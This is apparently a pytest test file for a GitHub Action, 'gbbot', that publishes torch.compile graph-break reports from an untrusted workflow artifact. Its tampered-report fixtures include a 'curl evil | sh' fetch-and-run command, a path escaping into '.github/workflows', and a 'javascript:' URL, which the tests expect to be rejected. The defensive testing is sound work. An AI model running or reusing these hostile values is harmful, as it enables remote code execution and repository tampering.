"""`gbbot action` under workflow_run: the privileged publisher reads the report artifact as
untrusted input, finds the PR by the run's head SHA and publishes; it never runs code."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gbbot.action import event, inputs
from gbbot.action.workflow_run import FORK_NOTE
from gbbot.analysis import report as report_io
from gbbot.core.errors import GbbotError
from tests.action_run import RUN_ID, run_action, workflow_run_event
from tests.builders import HEAD_SHA, graph_break, report
from tests.github_standin import ACTIONS_BOT, ACTIONS_TOKEN, GitHubStandin

PR = 7


@pytest.fixture
def standin(github_standin: GitHubStandin) -> GitHubStandin:
    github_standin.add_pull(PR, HEAD_SHA, head_repo_fork=True)
    return github_standin


def write_report(workspace: Path, data: dict | str) -> None:
    text = data if isinstance(data, str) else json.dumps(data)
    (workspace / "gbbot-report" / "report.json").write_text(text)


def sample() -> dict:
    breaks = [graph_break(i) for i in range(3)]
    return report_io.to_json(report(breaks, new=breaks[:2]))


def test_publishes_the_artifact_on_the_pr_found_by_head_sha(
    workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    write_report(workspace, sample())
    event = workflow_run_event(HEAD_SHA)
    done = run_action(
        workspace,
        tmp_path / "run",
        standin,
        "workflow_run",
        event,
        ACTIONS_TOKEN,
        header="cpu",
        artifact_name="gbbot-report",
    )
    assert done.code == 0, done.stderr
    (comment,) = standin.comments(PR)
    assert comment.login == ACTIONS_BOT and "header=cpu" in comment.body
    assert FORK_NOTE in comment.body and FORK_NOTE in standin.check_runs()[0].output["summary"]
    assert f"[this workflow run](https://github.com/octo-org/octo-repo/actions/runs/{289782451})" in comment.body
    (check,) = standin.check_runs()
    assert (check.name, check.head_sha, check.conclusion) == ("gbbot (cpu)", HEAD_SHA, "failure")
    assert check.external_id == f"cpu:{RUN_ID}:1" and len(check.annotations) == 2  # the new ones: what the PR changed
    assert (
        done.outputs["new-breaks"] == "2"
        and done.outputs["total-breaks"] == "3"
        and done.outputs["fixed-breaks"] == "0"
    )
    assert done.outputs["conclusion"] == "failure" and done.outputs["comment-url"].endswith(
        f"#issuecomment-{comment.id}"
    )
    sarif = json.loads((workspace / "gbbot-report" / "gbbot.sarif").read_text())
    assert len(sarif["runs"][0]["results"]) == 3
    assert "## gbbot: torch.compile graph breaks · cpu" in done.summary


def test_a_same_repo_pr_listed_on_the_run_is_used(workspace: Path, tmp_path: Path, standin: GitHubStandin) -> None:
    standin.add_pull(8, HEAD_SHA)
    write_report(workspace, sample())
    done = run_action(
        workspace, tmp_path / "run", standin, "workflow_run", workflow_run_event(HEAD_SHA, 8), ACTIONS_TOKEN
    )
    assert done.code == 0, done.stderr
    assert len(standin.comments(8)) == 1 and standin.comments(PR) == []
    assert FORK_NOTE not in standin.comments(8)[0].body  # a same-repository PR's workflow is the repository's


def test_no_open_pr_for_the_commit_publishes_nothing(workspace: Path, tmp_path: Path, standin: GitHubStandin) -> None:
    write_report(workspace, sample())
    other = "1" * 40
    done = run_action(workspace, tmp_path / "run", standin, "workflow_run", workflow_run_event(other), ACTIONS_TOKEN)
    assert done.code == 0, done.stderr
    assert f"no open pull request has head {other[:7]}" in done.stderr
    assert standin.comments(PR) == [] and standin.check_runs() == []


def tampered_reports() -> dict[str, str | dict]:
    path_escape = sample()
    path_escape["entrypoints"][0]["breaks"][0]["file"] = "../../.github/workflows/ci.yml"
    smuggled = sample()
    smuggled["entrypoints"][0]["breaks"][0]["command"] = "curl evil | sh"
    bad_url = sample()
    bad_url["entrypoints"][0]["breaks"][0]["doc_url"] = "javascript:alert(1)"
    huge = sample()
    huge["entrypoints"][0]["breaks"][0]["code"] = "x" * 100_000
    return {
        "path outside the repository": path_escape,
        "unknown field": smuggled,
        "non-https link": bad_url,
        "oversized field": huge,
        "not JSON": "{'python': 'dict'}",
    }


@pytest.mark.parametrize("case", list(tampered_reports()))
def test_a_tampered_report_is_rejected_before_any_request(
    case: str, workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    write_report(workspace, tampered_reports()[case])
    done = run_action(workspace, tmp_path / "run", standin, "workflow_run", workflow_run_event(HEAD_SHA), ACTIONS_TOKEN)
    assert done.code == 2
    assert "gbbot: error:" in done.stderr and "report.json" in done.stderr
    assert standin.requests == []


def break_json(n: int) -> str:
    return json.dumps(report_io.to_json(report([graph_break(n)]))["entrypoints"][0]["breaks"][0])


def with_breaks(count: int) -> str:
    """A report of `count` breaks, written as text (156,000 of them are 52 MB)."""
    text = json.dumps(sample())
    start = text.index('"breaks": [') + len('"breaks": [')
    one = break_json(0)
    return (
        text[:start] + ", ".join(one.replace("0" * 3, f"{i:03x}"[-3:], 1) for i in range(count)) + ", " + text[start:]
    )


def hostile_artifacts() -> dict[str, tuple[str, str]]:
    """name → (report.json text, what the one-line refusal says)."""
    text = json.dumps(sample())
    return {
        "nested 100,000 deep": ("[" * 100_000 + "]" * 100_000, "nested more than 32 deep"),
        "a number of 5,000 digits": (
            text.replace('"duration_s": 1.5', '"duration_s": 1' + "0" * 4999, 1),
            "a number of 5000 characters",
        ),
        "NaN": (text.replace('"duration_s": 1.5', '"duration_s": NaN', 1), "NaN is not a JSON number"),
        "Infinity": (text.replace('"duration_s": 1.5', '"duration_s": -Infinity', 1), "-Infinity is not a JSON number"),
        "1e999": (text.replace('"duration_s": 1.5', '"duration_s": 1e999', 1), "the number 1e999 is not finite"),
        "156,000 breaks (52 MB)": (with_breaks(156_000), "bytes a report may have"),
        "6,000 breaks (2 MB)": (with_breaks(6_000), "breaks in one entrypoint, over the 2000 gbbot reads"),
    }


@pytest.mark.parametrize("case", list(hostile_artifacts()))
def test_a_hostile_artifact_is_refused_in_one_line_and_nothing_is_posted(
    case: str, workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    text, why = hostile_artifacts()[case]
    write_report(workspace, text)
    done = run_action(workspace, tmp_path / "run", standin, "workflow_run", workflow_run_event(HEAD_SHA), ACTIONS_TOKEN)
    assert done.code == 2, done.stderr
    (line,) = [x for x in done.stderr.splitlines() if x.startswith("gbbot: error:")]
    assert "report.json" in line and why in line
    assert "Traceback" not in done.stderr and standin.requests == []


def test_annotations_stop_at_1000_and_the_rest_are_counted(
    workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    breaks = [graph_break(i) for i in range(1_200)]
    write_report(workspace, report_io.to_json(report(breaks, new=breaks)))
    event = workflow_run_event(HEAD_SHA)
    done = run_action(
        workspace, tmp_path / "run", standin, "workflow_run", event, ACTIONS_TOKEN, artifact_name="gbbot-report"
    )
    assert done.code == 0, done.stderr
    (check,) = standin.check_runs()
    assert len(check.annotations) == 1_000
    assert len(standin.requests_to("POST", r"/check-runs$")) + len(standin.requests_to("PATCH", r"/check-runs/")) == 20
    assert "200 more findings are in the report artifact" in check.output["summary"]


def test_an_oversized_report_file_is_not_read(
    workspace: Path, tmp_path: Path, standin: GitHubStandin, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gbbot.action import analysis
    from gbbot.core import limits

    write_report(workspace, sample())
    monkeypatch.setattr(limits, "REPORT_FILE_MAX_BYTES", 1000)
    with pytest.raises(GbbotError, match="over the 1000 bytes a report may have"):
        analysis.read_untrusted(workspace / "gbbot-report" / "report.json")


def test_pull_request_target_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "event.json"
    path.write_text("{}")
    with pytest.raises(event.EventError, match="does not run under pull_request_target"):
        event.load("pull_request_target", path)


def test_inputs_come_from_the_environment_and_are_checked() -> None:
    read = inputs.read(
        {"INPUT_COMMENT-MODE": "off", "INPUT_FAIL-ON": "any", "INPUT_HEADER": "gpu", "INPUT_TOKEN": "s3cret"}
    )
    assert (read.comment_mode.value, read.fail_on, read.header, read.token) == ("off", "any", "gpu", "s3cret")
    assert "s3cret" not in repr(read)
    with pytest.raises(GbbotError, match="input comment-mode: 'sometimes' is not one of always, changes, off"):
        inputs.read({"INPUT_COMMENT-MODE": "sometimes"})
